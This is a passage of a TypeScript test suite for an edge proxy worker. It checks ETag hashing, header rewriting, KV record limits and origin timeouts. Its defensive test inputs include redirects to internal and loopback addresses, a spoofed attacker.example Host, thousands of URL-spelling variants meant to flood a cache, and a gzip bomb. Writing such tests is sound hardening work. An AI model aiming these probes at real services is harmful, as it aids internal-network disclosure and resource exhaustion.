    expect(answer.status).toBe(404)
    expect(answer.headers.get('X-Replica')).not.toBeNull()
  })
})

describe('Location and Content-Location from the origin', () => {
  it('are mapped to this worker’s path as relative references, whatever Host the client named', async () => {
    const answer = await edgeAt('https://attacker.example', '/legacy/located?status=302&location=/users/1')
    expect(answer.status).toBe(302)
    expect(answer.headers.get('Location')).toBe('/legacy/users/1')
    const content = await edgeAt('https://attacker.example', '/legacy/located?content-location=/users/1')
    expect(content.headers.get('Content-Location')).toBe('/legacy/users/1')
  })

  it.each([
    { label: 'an internal address', location: 'http://10.0.0.7/secret' },
    { label: 'localhost', location: 'http://localhost:9000/admin' },
    { label: 'the origin’s own host, outside its base', location: 'http://127.0.0.1:1/secret' },
    { label: 'an internal address under another scheme', location: 'ws://10.0.0.7/admin' },
    { label: 'an IPv4-compatible IPv6 loopback', location: 'http://[::127.0.0.1]/admin' },
    { label: 'a NAT64 address of a private one', location: 'http://[64:ff9b::a00:7]/admin' },
    { label: 'the benchmarking range', location: 'http://198.18.0.7/admin' },
  ])('turn a redirect to $label into a 502 that names neither', async ({ location }) => {
    const answer = await edge(`/legacy/located?status=302&location=${encodeURIComponent(location)}`)
    const problem = await expectProblem(answer, 502)
    expect(answer.headers.get('Location')).toBeNull()
    expect(JSON.stringify(problem)).not.toContain(new URL(location).hostname)
  })

  it('send a redirect without the page the origin wrote beside it, which may name what Location must not', async () => {
    const answer = await edge(`/legacy/located?status=302&location=/users/1`)
    expect(answer.status).toBe(302)
    expect(answer.headers.get('Location')).toBe('/legacy/users/1')
    expect(answer.headers.get('Content-Type')).toBeNull()
    expect(await answer.text()).toBe('')
    // A write's redirect with an internal Location keeps its status, and its page goes too.
    const internal = encodeURIComponent('http://10.0.0.7/admin')
    const write = await edge(`/legacy/located?status=303&location=${internal}`, {
      method: 'POST',
      body: '{}',
    })
    expect(write.status).toBe(303)
    expect(await write.text()).toBe('')
  })

  it('map Refresh like Location, and drop one that would disclose', async () => {
    const inside = await edge(`/legacy/located?refresh=${encodeURIComponent('0; url=/users/1')}`)
    expect(inside.headers.get('Refresh')).toBe('0; url=/legacy/users/1')
    for (const refresh of ['0; url=http://10.0.0.7/admin', "0;URL='ws://10.0.0.7/'", '0; http://[::1]/x']) {
      const answer = await edge(`/legacy/located?refresh=${encodeURIComponent(refresh)}`)
      expect(answer.status, refresh).toBe(200)
      expect(answer.headers.get('Refresh'), refresh).toBeNull()
    }
  })

  it('map each member of Link like Location, and drop the members that would disclose', async () => {
    const link = '</users?page=2>; rel="next", <http://10.0.0.7/admin>; rel="admin", </users/1>; rel="first"'
    const answer = await edge(`/legacy/located?link=${encodeURIComponent(link)}`)
    expect(answer.headers.get('Link')).toBe(
      '</legacy/users?page=2>; rel="next", </legacy/users/1>; rel="first"',
    )
    const only = await edge(`/legacy/located?link=${encodeURIComponent('<http://10.0.0.7/>; rel=admin')}`)
    expect(only.headers.get('Link')).toBeNull()
  })

  it('drop such a Location from a write’s redirect, and keep its status: the origin has acted on it', async () => {
    const location = encodeURIComponent('http://10.0.0.7/orders/9')
    const answer = await edge(`/legacy/located?status=303&location=${location}`, {
      method: 'POST',
      body: '{}',
    })
    expect(answer.status).toBe(303)
    expect(answer.headers.get('Location')).toBeNull()
  })

  it('pass a redirect to another public host as it is', async () => {
    const location = 'https://login.example.com/sso?next=%2Flegacy'
    const answer = await edge(`/legacy/located?status=302&location=${encodeURIComponent(location)}`)
    expect(answer.status).toBe(302)
    expect(answer.headers.get('Location')).toBe(location)
  })

  it('drop an internal Location or Content-Location from an answer that is no redirect, and keep the answer', async () => {
    const internal = encodeURIComponent('http://10.0.0.7/users/9')
    const created = await edge(`/legacy/located?status=201&location=${internal}&content-location=${internal}`)
    expect(created.status).toBe(201)
    expect(created.headers.get('Location')).toBeNull()
    expect(created.headers.get('Content-Location')).toBeNull()
    const hashed = await edge(`/legacy/located?content-location=${internal}`)
    expect(hashed.status).toBe(200)
    expect(hashed.headers.get('Content-Location')).toBeNull()
  })
})

describe('KV writes', () => {
  it('a thousand GETs with made-up query strings write no record, and are still answered with our tag', async () => {
    const { kv, calls } = observedKv(DOCUMENTS)
    const before = await recordCount()
    const answers: Response[] = []
    for (let batch = 0; batch < 40; batch++) {
      const made = Array.from({ length: 25 }, () => `/legacy/users/1?r=${crypto.randomUUID()}`)
      answers.push(...(await Promise.all(made.map((path) => edge(path, {}, { DOCUMENTS: kv })))))
    }
    expect(answers).toHaveLength(1_000)
    expect(new Set(answers.map((answer) => answer.status))).toEqual(new Set([200]))
    expect(new Set(answers.map((answer) => answer.headers.get('ETag'))).size).toBe(1)
    expect(calls.operations.filter((operation) => operation.startsWith('put'))).toEqual([])
    expect(calls.operations.filter((operation) => operation.startsWith('get'))).toEqual([])
    expect(await recordCount()).toBe(before)
    // Tagged as now: a 304 comes from comparing hashes, not from a record.
    const again = await edge(`/legacy/users/1?r=${crypto.randomUUID()}`, {
      headers: { 'If-None-Match': etag(answers[0] as Response) },
    })
    expect(again.status).toBe(304)
  })

  it('spellings of one URL write at most its one record: & padding, ;x=N, %75sers, //', async () => {
    // The test origin reads `/users;x=1//%31` as /users/1, as Tomcat, Spring and nginx would: every spelling
    // below is answered 200 with the same document.
    const path = freshPath()
    const spelled = path.replace('/fresh/', '/%66r%65sh/').replaceAll('-', '%2d')
    await changeAtOrigin(path, { id: 'one record' })
    const settings = { ORIGIN_RECORD_QUERY: 'page' }
    const before = await recordCount()
    const variants = [
      path,
      ...Array.from({ length: 300 }, (_, n) => `${path}?${'&'.repeat(n + 1)}`),
      ...Array.from({ length: 200 }, (_, n) => `${path};x=${n}`),
      spelled,
      spelled.replaceAll('%2d', '%2D'),
      path.replace('/fresh/', '/fresh//'),
      path.replace('/fresh/', '//fresh/'),
    ]
    const answers: Response[] = []
    for (let start = 0; start < variants.length; start += 25) {
      const batch = variants.slice(start, start + 25)
      answers.push(...(await Promise.all(batch.map((variant) => edge(`/legacy${variant}`, {}, settings)))))
    }
    const statuses = variants.map((variant, index) => `${answers[index]?.status} ${variant}`)
    expect(statuses.filter((status) => !status.startsWith('200'))).toEqual([])
    expect(new Set(answers.map((answer) => answer.headers.get('ETag'))).size).toBe(1)
    // 1. One record more in KV, and it is the canonical URL's.
    expect((await recordCount()) - before).toBe(1)
    expect(await recordOf(path)).not.toBeNull()
    // 2. A spelling that is recorded is answered from that record: the first-seen date of the canonical URL.
    const canonical = await edge(`/legacy${path}`, {}, settings)
    const escaped = await edge(`/legacy${spelled}`, {}, settings)
    expect(canonical.headers.get('Last-Modified')).not.toBeNull()
    expect(escaped.headers.get('Last-Modified')).toBe(canonical.headers.get('Last-Modified'))
  })

  it('record a URL whose query holds only parameters ORIGIN_RECORD_QUERY lists', async () => {
    const path = freshPath()
    await changeAtOrigin(path, { id: 'paged' })
    await edge(`/legacy${path}?page=2`)
    expect(await recordOf(`${path}?page=2`)).toBeNull()
    await edge(`/legacy${path}?page=2`, {}, { ORIGIN_RECORD_QUERY: 'page, limit' })
    expect(await recordOf(`${path}?page=2`)).not.toBeNull()
    await edge(`/legacy${path}?page=2&utm_source=x`, {}, { ORIGIN_RECORD_QUERY: 'page, limit' })
    expect(await recordOf(`${path}?page=2&utm_source=x`)).toBeNull()
  })
})

describe('bodies', () => {
  it('hash JSON over the canonicalising limit byte for byte, as they came', async () => {
    const answer = await edge('/legacy/bulk?bytes=1100000&type=json')
    const bytes = new Uint8Array(await answer.arrayBuffer())
    expect(bytes.byteLength).toBeGreaterThan(1_048_576)
    expect(new TextDecoder().decode(bytes.slice(0, 3))).toBe('[ "')
    expect(answer.headers.get('ETag')).toBe(await sha256Tag(bytes))
  })

  it('canonicalise JSON within the limit', async () => {
    const answer = await edge('/legacy/bulk?bytes=1000000&type=json')
    expect(new TextDecoder().decode((await answer.arrayBuffer()).slice(0, 3))).toBe('["x')
  })

  it('decode gzip from the origin to hash it, and send the canonical bytes', async () => {
    const answer = await edge('/legacy/gzip')
    expect(answer.status).toBe(200)
    expect(answer.headers.get('Content-Encoding')).toBeNull()
    expect(await answer.text()).toBe('{"by":"the origin","compressed":"with gzip"}')
    expect(answer.headers.get('ETag')).toMatch(/^"[A-Za-z0-9_-]{43}"$/)
  })

  it('pass a gzip bomb on as it came, decoded only as far as the limit', async () => {
    const started = Date.now()
    const answer = await edge('/legacy/gzip-bomb')
    expect(answer.status).toBe(200)
    expect(answer.headers.get('ETag')).toBeNull()
    expect(answer.headers.get('Content-Encoding')).toBe('gzip')
    const coded = new Uint8Array(await answer.arrayBuffer())
    expect(coded.byteLength).toBe(Number(answer.headers.get('Content-Length')))
    expect(coded.byteLength).toBeLessThan(100_000)
    expect([coded[0], coded[1]]).toEqual([0x1f, 0x8b])
    expect(Date.now() - started).toBeLessThan(5_000)
  })

  it('pass a body in a coding not decoded on byte for byte', async () => {
    const answer = await edge('/legacy/deflate')
    const bytes = new Uint8Array(await answer.arrayBuffer())
    expect(bytes[0]).toBe(0x78)
    expect(bytes.byteLength).toBe(Number(answer.headers.get('Content-Length')))
  })
})

describe('ORIGIN_TIMEOUT_MS', () => {
  const quick = { ORIGIN_TIMEOUT_MS: '300' }

  it('never cuts short a client that downloads slowly', async () => {
    const size = 4 * 1_048_576
    const answer = await edge(`/legacy/bulk?bytes=${size}&status=203`, {}, quick)
    expect(answer.status).toBe(203)
    await sleep(900)
    expect((await answer.arrayBuffer()).byteLength).toBe(size)
  })

  it('bounds each silence of the origin, not the whole body: one sent in parts is hashed whole', async () => {
    const answer = await edge('/legacy/trickle?parts=6&gap=120', {}, quick)
    expect(answer.status).toBe(200)
    expect(await answer.text()).toBe('[0,1,2,3,4,5]')
    expect(answer.headers.get('ETag')).not.toBeNull()
  })

  it('turns an origin silent mid-body into a 504 when the body is hashed', async () => {
    const answer = await edge('/legacy/trickle?parts=3&gap=1000', {}, quick)
    const problem = await expectProblem(answer, 504)
    expect(problem.detail).toBe('The origin sent nothing for 300 ms in the middle of its answer')
  })

  it('breaks off a passed-on body whose origin falls silent, rather than leave the client waiting', async () => {
    const answer = await edge('/legacy/trickle?parts=3&gap=1000&status=203', {}, quick)
    expect(answer.status).toBe(203)
    await expect(answer.text()).rejects.toThrow()
  })
})

describe('what cannot be passed on', () => {
  it('turns an origin’s 101 into a 502 problem', async () => {
    const problem = await expectProblem(await edge('/legacy/switching'), 502)
    expect(problem.detail).toBe('The origin answered 101')
  })

  it('answers a request target of * with 400', async () => {
    const settings = { ORIGIN_URL: ORIGIN, ORIGIN_PREFIX: '/legacy' }
    // workerd builds this URL for `OPTIONS * HTTP/1.1` with `Host: edge-etag.test`.
    await expectProblem(await fetchWith(settings, 'https://edge-etag.test*', { method: 'OPTIONS' }), 400)
    await expectProblem(await fetchWith({ ...settings, ORIGIN_PREFIX: '' }, 'https://edge-etag.test*'), 400)
  })
})
